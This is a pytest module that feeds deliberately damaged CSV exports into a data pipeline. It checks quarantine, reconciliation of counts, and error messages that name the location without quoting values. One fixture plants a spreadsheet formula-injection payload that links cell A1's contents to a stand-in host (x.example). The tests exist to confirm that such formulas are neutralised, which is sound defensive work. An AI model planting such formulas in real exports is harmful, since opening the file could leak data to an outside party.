"""Hostile exports: a catalogue of what real exports get wrong, each case a test.

Header-level cases stop a run before anything is read (checked on the headers alone). Row-level
cases run in ONE real flow run over a landing where each case is its own export date and unit,
copied from one generated day (every date in its rows moved to the case's day) and then damaged;
a clean copy of the same day is the baseline. The two cases that must stop a release (a file
mixing encodings, a field longer than a read block) run in releases of their own. Each case ends
in a correct result or a clear error naming the file (and row and column where there is one)
without quoting a value; bad rows go to the owner-only quarantine and are counted, and the counts
reconcile: per file, rows = quarantined + placed in units; per unit, placed = published +
suppressed + erased.

(A re-export replacing a published file is test_operations' test_default_runs_only_new_or_changed_dates.)
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import re
import shutil
import stat
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from flows.cli import app
from flows.runtime.paths import POLICIES
from flows.storage import landing as landing_io
from flows.storage import ledger
from flows.storage.footer import read_footer
from tests.conftest import run_flow
from transforms.policy import load_policies

BASE = dt.date(2026, 3, 1)
NAMES = {"pos": "pos_lines_{}.csv", "membership": "members_{}.csv", "after_sales": "cases_{}.csv"}
UNKNOWN_SUBJECTS = (
    "2026-02-25 09:00:00,110101199001011237,,\n2026-02-25 09:01:00,,13900000000,\n2026-02-25 09:02:00,,,M999999999\n"
)


def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def _replace_field(path: Path, line: int, column: int, value: bytes) -> None:
    lines = _lines(path)
    fields = lines[line].rstrip(b"\r\n").split(b",")
    fields[column] = value
    lines[line] = b",".join(fields) + b"\r\n"
    path.write_bytes(b"".join(lines))


def header_only(f):
    (f["pos"].parent / (f["pos"].stem + "_part2.csv")).write_bytes(_lines(f["pos"])[0])


def no_bom(f):
    f["pos"].write_bytes(f["pos"].read_bytes().removeprefix(codecs.BOM_UTF8))


def mixed_encoding(f):  # rows 5-7 of the GB18030 snapshot written in UTF-8
    lines = _lines(f["membership"])
    for i in (5, 6, 7):
        lines[i] = lines[i].decode("gb18030").encode("utf-8")
    f["membership"].write_bytes(b"".join(lines))


def ragged(f):  # one row with a field too many, one cut short
    lines = _lines(f["pos"])
    lines[10] = lines[10].rstrip(b"\r\n") + b",extra\r\n"
    lines[20] = b",".join(lines[20].split(b",")[:5]) + b"\r\n"
    f["pos"].write_bytes(b"".join(lines))


def invalid_date(f):  # txn_time on 2026-02-30
    _replace_field(f["pos"], 3, 6, b"2026-02-30 10:00:00")


def truncated(f):  # the file ends in the middle of its last row
    data = f["pos"].read_bytes()
    f["pos"].write_bytes(data[: data.rfind(b"\n", 0, len(data) - 2) + 40])


def nul_byte(f):
    _replace_field(f["pos"], 2, 13, b"MU\x00523")  # flight_no


def delivered_twice(f):
    shutil.copy(f["pos"], f["pos"].parent / (f["pos"].stem + "_copy.csv"))


def long_field(f):  # a 3 MB complaint text, longer than a read block
    _replace_field(f["after_sales"], 1, 6, b'"' + "很长的描述".encode() * 200_000 + b'"')


def formula(f):
    _replace_field(f["after_sales"], 1, 6, b'"=HYPERLINK(""http://x.example/?""&A1,""click"")"')


def number_shapes(f):  # 820.00 in full-width digits; 1190.00 with a thousands separator
    _replace_field(f["pos"], 1, 21, "８２０.００".encode())
    _replace_field(f["pos"], 3, 23, b'"1,190.00"')


def id_shapes(f):  # a resident ID with a wrong check digit (lower-case x is in every baseline day)
    lines = _lines(f["pos"])
    row = next(i for i, line in enumerate(lines) if i and len(line.split(b",")[10]) == 18 and line.split(b",")[10][-1:].isdigit())
    doc = lines[row].split(b",")[10]
    _replace_field(f["pos"], row, 10, doc[:-1] + str((int(doc[-1:]) + 1) % 10).encode())


CASES = [
    header_only,
    no_bom,
    ragged,
    invalid_date,
    truncated,
    nul_byte,
    delivered_twice,
    formula,
    number_shapes,
    id_shapes,
]
REFUSED = [mixed_encoding, long_field]  # each stops the release it is in
DAYS = {case.__name__: (dt.date(2026, 4, 2) + dt.timedelta(days=i)).isoformat() for i, case in enumerate(CASES + REFUSED)}
BASELINE = "2026-04-01"
DATE = re.compile(rb"(\d{4})-(\d{2})-(\d{2})")


def _moved(data: bytes, days: int) -> bytes:
    """An export's rows with every date in them moved by `days` (a day's exports copied to another
    day: the rows' own dates, which place them in units, follow)."""
    return DATE.sub(lambda m: (dt.date(*map(int, m.groups())) + dt.timedelta(days=days)).isoformat().encode(), data)


def _landing(base: Path, landing: Path, cases: list, snapshot: str) -> Path:
    """The baseline day and each case's day, copied from `base` and damaged; the CRM snapshot (a
    release publishes the latest only) under `snapshot`'s day."""

    def copy_day(day: str) -> dict[str, Path]:
        files = {}
        shift = (dt.date.fromisoformat(day) - BASE).days
        for source, name in NAMES.items():
            if source == "membership" and day != snapshot:
                continue
            folder = landing / source / day
            folder.mkdir(parents=True)
            files[source] = folder / name.format(day.replace("-", ""))
            data = (base / source / BASE.isoformat() / name.format(f"{BASE:%Y%m%d}")).read_bytes()
            files[source].write_bytes(data if source == "membership" else _moved(data, shift))
        return files

    copy_day(BASELINE)
    for case in cases:
        case(copy_day(DAYS[case.__name__]))
    shutil.copytree(base / "requests", landing / "requests")
    with (landing / "requests" / "erasure.csv").open("a", encoding="utf-8") as fh:
        fh.write(UNKNOWN_SUBJECTS)  # subjects nobody in the exports is
    return landing


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    from sample_data.generator import Config, generate

    root = tmp_path_factory.mktemp("hostile-base")
    generate(root, Config(days=1, rows=800, seed=7, split_last_day=False))
    return root


@pytest.fixture(scope="module")
def catalogue(prefect_server, base, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    landing = _landing(base, root / "landing", CASES, BASELINE)
    return landing, run_flow(landing, root / "out", every=True)


@pytest.fixture(scope="module")
def refused(prefect_server, base, tmp_path_factory):
    """Each case that stops a release, in a release of its own (the baseline beside it)."""
    found = {}
    for case in REFUSED:
        root = tmp_path_factory.mktemp(case.__name__)
        landing = _landing(base, root / "landing", [case], DAYS[case.__name__] if case is mixed_encoding else BASELINE)
        found[case.__name__] = (landing, run_flow(landing, root / "out", every=True))
    return found


def _counts(run, day: str, source: str) -> dict:
    """The unit's exact counts (the ledger's), and the rows of its day's files set aside."""
    rows = ledger.partition_entries(run.restricted)[(source, day)].data.rows
    return rows.model_dump() | {"quarantined": len(_quarantined(run, day, source))}


def _table(run, day: str, source: str):
    [path] = run.warehouse.glob(f"dataset={source}/period={day}/*.parquet")
    return pq.read_table(path), read_footer(path)


def _quarantined(run, day: str, source: str) -> list[dict]:
    files = sorted(run.restricted.glob(f"quarantine/{source}/export_date={day}/*.csv"))
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    return [row for path in files for row in csv.DictReader(path.open(encoding="utf-8"))]


def test_every_file_and_unit_reconciles_and_unknown_erasure_subjects_are_harmless(catalogue):
    landing, run = catalogue
    assert run.state.is_completed(), run.state.message
    requests = (landing / "requests" / "erasure.csv").read_text(encoding="utf-8").strip().splitlines()[1:]
    [entry] = [e["data"] for e in ledger.entries(run.restricted) if e["kind"] == "run"]
    assert entry["erasure_requests"] == len(requests)  # the unknown ones read like the others
    assert _counts(run, BASELINE, "membership")["erased"] > 0  # and the known ones still erase
    for path, f in entry["files"].items():
        assert f["rows"] == f["quarantined"] + f["placed"] + f["elsewhere"], path
    units = ledger.partition_entries(run.restricted)
    assert {period for (name, period) in units if name == "pos"} == {BASELINE, *(DAYS[c.__name__] for c in CASES)}
    for key, unit in units.items():
        c = unit.data.rows
        assert c.read == c.published + (c.suppressed or 0) + (c.erased or 0) and c.reconciles(), key
    assert ledger.verify(run.restricted, run.warehouse) == []


def test_header_only_and_no_bom_publish_what_the_clean_file_publishes(catalogue):
    _, run = catalogue

    def rows(table: pa.Table) -> pa.Table:
        table = table.drop_columns(["customer_id", "txn_time"])  # its token and its day are the unit's own
        return table.sort_by([(c, "ascending") for c in table.column_names])

    clean, _ = _table(run, BASELINE, "pos")
    for case in ("header_only", "no_bom"):
        assert _counts(run, DAYS[case], "pos") == _counts(run, BASELINE, "pos")
        table, meta = _table(run, DAYS[case], "pos")
        assert rows(table).equals(rows(clean))
    # A file of no rows places none in any unit: the run's record lists it, read, with 0 rows.
    [entry] = [e["data"] for e in ledger.entries(run.restricted) if e["kind"] == "run"]
    empty = f"pos/{DAYS['header_only']}/pos_lines_{DAYS['header_only'].replace('-', '')}_part2.csv"
    assert entry["files"][empty]["rows"] == 0 and len(_table(run, DAYS["header_only"], "pos")[1]["inputs"]) == 1


def test_quoted_commas_quotes_and_line_breaks_stay_in_their_field(catalogue):
    landing, run = catalogue
    path = landing / "after_sales" / BASELINE / NAMES["after_sales"].format(BASELINE.replace("-", ""))
    records = list(csv.reader(path.open(encoding="utf-8")))[1:]
    assert any("\n" in value or "," in value or '"' in value for record in records for value in record)
    assert _counts(run, BASELINE, "after_sales")["read"] == len(records)


def test_a_file_mixing_encodings_fails_naming_file_line_and_column(refused):
    landing, run = refused["mixed_encoding"]
    assert run.state.is_failed()
    error = run.summary.error
    # The column where decoding first fails: UTF-8 text can also be valid GB18030 (as other
    # characters), so an earlier field of the row may pass; one that fails stops the file.
    assert f"members_{DAYS['mixed_encoding'].replace('-', '')}.csv: line 6, column '性别': not valid gb18030" in error
    lines = _lines(
        landing / "membership" / DAYS["mixed_encoding"] / NAMES["membership"].format(DAYS["mixed_encoding"].replace("-", ""))
    )
    assert not any(value and value.decode("utf-8", "ignore") in error for value in lines[5].split(b",")[:3])
    assert not list(run.warehouse.rglob("*.parquet"))  # nothing of the release is published


@pytest.mark.parametrize(
    "case, rows, problem",
    [
        ("ragged", 2, "wrong number of fields"),
        ("invalid_date", 1, "unparseable: txn_time"),
        ("truncated", 1, "wrong number of fields"),
        ("nul_byte", 1, "unparseable: flight_no"),
    ],
)
def test_bad_rows_go_to_quarantine_counted(catalogue, case, rows, problem):
    _, run = catalogue
    counts = _counts(run, DAYS[case], "pos")
    assert counts["quarantined"] == rows
    assert counts["read"] + rows == _counts(run, BASELINE, "pos")["read"]  # a bad row is read, and set aside
    found = _quarantined(run, DAYS[case], "pos")
    assert len(found) == rows and all(r["problem"] == problem for r in found)
    if problem.startswith("unparseable"):
        assert [int(r["row"]) for r in found] == [{"invalid_date": 3, "nul_byte": 2}[case]]


def test_a_file_delivered_twice_is_read_once_and_recorded(catalogue):
    landing, run = catalogue
    day = DAYS["delivered_twice"]
    assert _counts(run, day, "pos") == _counts(run, BASELINE, "pos")
    _, meta = _table(run, day, "pos")
    name = NAMES["pos"].format(day.replace("-", ""))
    assert meta["copies_not_read"] == [{"file": f"pos/{day}/{name.replace('.csv', '_copy.csv')}", "copy_of": f"pos/{day}/{name}"}]
    [entry] = [
        e
        for e in ledger.entries(run.restricted)
        if e["kind"] == "partition" and e["data"]["period"] == day and e["data"]["dataset"] == "pos"
    ]
    assert entry["data"]["copies_not_read"] == meta["copies_not_read"]
    # The copy is replaced by the partition like its original: purge does not hold the date for it.
    from flows.closing import purge

    [plan] = [
        p
        for p in purge.plan(
            landing_io.Landing(landing), run.warehouse, run.restricted, load_policies(POLICIES), dt.date(2040, 1, 1)
        )
        if p.export_date.isoformat() == day
    ]
    assert plan.held is None and f"pos/{day}/{name.replace('.csv', '_copy.csv')}" in {f["path"] for f in plan.files}


def test_an_extremely_long_field_fails_the_file_clearly(refused):
    _, run = refused["long_field"]
    assert run.state.is_failed() and not list(run.warehouse.rglob("*.parquet"))
    error = run.summary.error
    assert "cases_" in error and "a row longer than 1 MiB after row 0" in error and "很长" not in error


def test_a_formula_in_free_text_never_reaches_the_release_and_csv_output_is_inert(catalogue):
    _, run = catalogue
    table, _ = _table(run, DAYS["formula"], "after_sales")
    assert not any(str(v).startswith("=") for c in table.column_names for v in table[c].drop_null().to_pylist())
    out = CliRunner().invoke(
        app, ["query", "SELECT '=HYPERLINK(\"http://x\")' AS text", "--warehouse", str(run.warehouse), "--format", "csv"]
    )
    assert out.exit_code == 0 and "'=HYPERLINK(" in out.output and "\n=HYPERLINK(" not in out.output


def test_numbers_with_separators_or_full_width_digits_and_refunds_are_read_right(catalogue):
    """Read as the clean file's numbers, to the cent, refunds with their sign, nothing quarantined
    (the bands published are the release's)."""
    from transforms.steps import parse_table

    landing, run = catalogue
    policy = load_policies(POLICIES)["pos"]
    area = landing_io.Landing(landing)

    def amounts(day: str) -> list:
        [table] = list(
            landing_io.iter_csv(area, f"pos/{day}/{NAMES['pos'].format(day.replace('-', ''))}", policy, [], block_size=1 << 30)
        )
        return parse_table(table, policy).table["amount"].to_pylist()

    shaped, clean = amounts(DAYS["number_shapes"]), amounts(BASELINE)
    assert shaped == clean and min(clean) < 0
    assert _counts(run, DAYS["number_shapes"], "pos")["quarantined"] == 0


def test_id_numbers_in_any_case_or_with_a_bad_check_digit_are_tokens_like_any_other(catalogue):
    landing, run = catalogue
    from tests.conftest import published_token

    policy = load_policies(POLICIES)["pos"]
    raw = landing_io.Landing(landing)
    docs = [
        v
        for t in landing_io.iter_csv(raw, f"pos/{BASELINE}/{NAMES['pos'].format(BASELINE.replace('-', ''))}", policy, [])
        for v in t["doc_no"].to_pylist()
    ]
    lower = [d for d in docs if d.endswith("x")]
    path = run.warehouse / "dataset=pos" / f"period={BASELINE}" / "part-0.parquet"
    published = set(pq.read_table(path)["customer_id"].to_pylist())
    assert lower and all(published_token(d.upper(), path) in published for d in lower)
    shaped, clean = _counts(run, DAYS["id_shapes"], "pos"), _counts(run, BASELINE, "pos")
    assert (shaped["read"], shaped["quarantined"]) == (clean["read"], 0)


@pytest.mark.parametrize(
    "damage, message",
    [
        (lambda p: p.write_bytes(b""), "empty file (no header row)"),
        (
            lambda p: p.write_bytes(p.read_bytes().replace(b",", b";")),
            "the header is one field holding ';': the file is not comma-separated",
        ),
        (
            lambda p: p.write_bytes(b"\n".join(line.rsplit(b",", 1)[0] for line in p.read_bytes().split(b"\n"))),
            "required column(s) ['card_no'] are missing",
        ),
        (
            lambda p: p.write_bytes(p.read_bytes().replace(b"card_no", b"card_no,vip_note", 1)),
            "column(s) ['vip_note'] are not covered",
        ),
        (lambda p: p.write_bytes(p.read_bytes().replace(b"card_no", b"amount", 1)), "column(s) ['amount'] appear more than once"),
    ],
)
def test_header_problems_stop_the_run_naming_the_file(landing, tmp_path, damage, message):
    """Checked on the headers of every file before any date is processed (a real run that meets
    one publishes nothing: test_flow's test_unknown_column_fails_closed)."""
    copy = tmp_path / "landing"
    shutil.copytree(landing, copy)
    relative = f"pos/{BASE}/pos_lines_{BASE:%Y%m%d}.csv"
    damage(copy / relative)
    problems = landing_io.check_headers(landing_io.Landing(copy), load_policies(POLICIES), _every_file(copy), drop_unknown=False)
    assert len(problems) == 1 and problems[0].startswith(relative) and message in problems[0]


def test_a_header_of_ten_thousand_unknown_columns_is_refused_in_one_short_line(landing, tmp_path):
    """At 874540f the refusal listed every column: 89,000-character log lines and a 179 KB ledger entry."""
    copy = tmp_path / "landing"
    shutil.copytree(landing, copy)
    path = copy / f"pos/{BASE}/pos_lines_{BASE:%Y%m%d}.csv"
    lines = path.read_bytes().splitlines(keepends=True)
    extra = ",".join(f"extra_column_{i}" for i in range(10_000)).encode()
    path.write_bytes(lines[0].rstrip(b"\r\n") + b"," + extra + b"\n" + b"".join(lines[1:]))
    [problem] = landing_io.check_headers(landing_io.Landing(copy), load_policies(POLICIES), _every_file(copy), drop_unknown=False)
    assert "['extra_column_0', 'extra_column_1'" in problem and "and 9995 more" in problem and len(problem) < 500


def _every_file(landing: Path) -> dict[str, list[str]]:
    area = landing_io.Landing(landing)
    return {name: list(landing_io.source_files(area, policy)) for name, policy in load_policies(POLICIES).items()}


def test_a_gb18030_export_delivered_in_utf8_is_refused(landing, tmp_path):
    copy = tmp_path / "landing"
    shutil.copytree(landing, copy)
    path = copy / "membership" / BASE.isoformat() / f"members_{BASE:%Y%m%d}.csv"
    path.write_bytes(path.read_bytes().decode("gb18030").encode("utf-8"))
    [problem] = landing_io.check_headers(landing_io.Landing(copy), load_policies(POLICIES), _every_file(copy), drop_unknown=False)
    assert problem.startswith(f"membership/{BASE}/members_") and "not covered by policy" in problem


@pytest.mark.parametrize(
    ("line", "column"),
    [
        ("2026-03-01 10:00:00,,13800\x00138000,", "mobile"),  # a NUL byte
        ('2026-03-01 10:00:00,"=HYPERLINK(""x"")",,', "doc_no"),  # a spreadsheet formula
        ("2026-03-01 10:00:00,,,", None),  # names no one
    ],
)
def test_a_damaged_erasure_request_refuses_in_one_line_never_erases_nobody(copy_of, tmp_path, line, column):
    """A request line that would find nobody (a NUL byte, a formula, every identifier empty) is not
    a silent no-op: `tuomin run` refuses in one line naming the list's line and column, before
    anything is read or written, and so does `subjects erase`, which would rewrite the list."""
    from typer.testing import CliRunner

    from flows.cli import app

    path = copy_of / "requests" / "erasure.csv"
    text = path.read_text("utf-8").rstrip("\n").splitlines()
    header = text[0].split(",")
    assert header[:1] == ["requested_at"] and "batch" not in header  # the generated list: requested_at, doc_no, mobile, member_no
    path.write_text("\n".join([*text, line]) + "\n", "utf-8")
    where = ["--landing", str(copy_of), "--warehouse", str(tmp_path / "w"), "--restricted", str(tmp_path / "r")]
    done = CliRunner().invoke(app, ["run", *where, "--no-backup"])
    assert done.exit_code == 2 and len(done.output.strip().splitlines()) == 1, done.output
    said = " ".join(done.output.split())
    assert f"requests/erasure.csv line {len(text) + 1}" in said and (column is None or f"{column} is not" in said), said
    assert "HYPERLINK" not in said and "138000" not in said  # the value is never quoted
    assert not (tmp_path / "w").exists() and not (tmp_path / "r").exists()
